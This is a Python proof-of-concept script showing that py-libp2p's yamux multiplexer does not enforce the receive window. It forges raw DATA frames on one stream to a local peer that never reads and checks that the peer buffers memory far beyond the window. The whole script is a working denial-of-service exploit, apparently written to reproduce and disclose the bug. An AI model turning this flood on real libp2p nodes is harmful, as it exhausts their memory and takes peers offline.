"""Yamux counts a peer's window and does not enforce it: one stream fills the receiver's memory."""

import struct
import sys

import trio
from libp2p import new_host
from libp2p.peer.peerinfo import PeerInfo
from multiaddr import Multiaddr

LISTEN = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
RAW, FRAME, TIMES = "/raw/1", 60_000, 200


async def never_read(_stream):
    await trio.sleep_forever()


async def main():
    attacker, victim, kept = new_host(), new_host(), 0
    victim.set_stream_handler(RAW, never_read)
    async with attacker.run(LISTEN), victim.run(LISTEN):
        await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
        stream = await attacker.new_stream(victim.get_id(), [RAW])
        muxed = stream.muxed_stream
        # Version 0, type DATA, no flags.
        flood = struct.pack("!BBHII", 0, 0, 0, muxed.stream_id, FRAME) + bytes(FRAME)
        [connection] = victim.get_network().get_connections()
        with trio.move_on_after(20):
            try:
                for _ in range(TIMES):
                    await muxed.muxed_conn.secured_conn.write(flood)
                while kept < TIMES * FRAME:
                    await trio.sleep(0.1)
                    kept = sum(map(len, connection.muxed_conn.stream_buffers.values()))
            except Exception as error:
                print("cut off:", repr(error)[:100])
    print(f"the window is 262,144 bytes; the victim holds {kept:,} unread bytes")
    return 0 if kept > 4 * 262_144 else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
